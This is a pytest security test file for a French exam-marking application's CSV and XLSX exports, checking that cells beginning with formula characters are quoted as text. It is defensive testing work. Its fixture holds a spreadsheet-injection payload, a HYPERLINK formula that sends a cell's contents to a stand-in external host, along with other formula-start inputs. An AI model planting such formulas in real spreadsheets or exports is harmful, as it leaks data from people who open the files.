"""Formula injection in exports (issue 12, item 3; OWASP CSV injection): a text cell that a
spreadsheet would evaluate (`=`, `+`, `-`, `@`, tab, carriage return) is written quoted,
as text, in every CSV and XLSX export (R-MASS-13); numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from harmonie.marking.models import Script
from harmonie.referential.models import Qualification
from harmonie.spreadsheet import cell_neutralise, row_neutralise
from tests.security.conftest import web_client

HOSTILE = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 00", "'+33 6 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Lycée Poincaré", "Lycée Poincaré"),
        ("", ""),
        ("a=b", "a=b"),
        (-1.5, -1.5),
        (-3, -3),
        (None, None),
    ],
)
def test_cell_neutralise(value, expected):
    """OWASP: formula starts are quoted; numbers, plain text and empty cells unchanged."""
    assert cell_neutralise(value) == expected


def test_row_neutralise_keeps_positions():
    assert row_neutralise(("=x", 2, None, "ok")) == ["'=x", 2, None, "ok"]


@pytest.fixture
def hostile_world(world):
    school = world.own.school
    school.label = HOSTILE
    school.save()
    grader = world.own.users["grader"]
    grader.first_name, grader.last_name = "@Jean", "-Dupont"
    grader.save()
    ids = Script.objects.filter(academy=school.department.academy).values("qualification")
    Qualification.objects.filter(pk__in=ids).update(label="+Sciences\tSTMG")
    return world


@pytest.mark.parametrize("table", ["etablissements", "correcteurs", "qualifications"])
def test_csv_export_neutralises_formulas(hostile_world, table):
    """R-MASS-13 exports: no cell of the CSV starts with a formula character."""
    client = web_client(hostile_world.user("coordinator"))
    response = client.get(f"/statistiques/{hostile_world.shared_exam.code}/export/{table}.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row if cell]
    assert any(cell.startswith("'") for cell in cells), rows
    assert not [cell for cell in cells if cell[0] in "=+@\t\r" or cell.startswith("-D")]


@pytest.mark.parametrize("table", ["etablissements", "correcteurs", "qualifications"])
def test_xlsx_export_has_no_formula(hostile_world, table):
    """R-MASS-13 exports: openpyxl stored `=...` as a live formula; now it is text."""
    client = web_client(hostile_world.user("coordinator"))
    response = client.get(f"/statistiques/{hostile_world.shared_exam.code}/export/{table}.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert any(text.startswith("'") for text in texts), texts
    assert not [text for text in texts if text[0] in "=+-@\t\r"]
    numbers = [cell.value for cell in cells if isinstance(cell.value, int | float)]
    assert numbers  # counts and means stay numbers
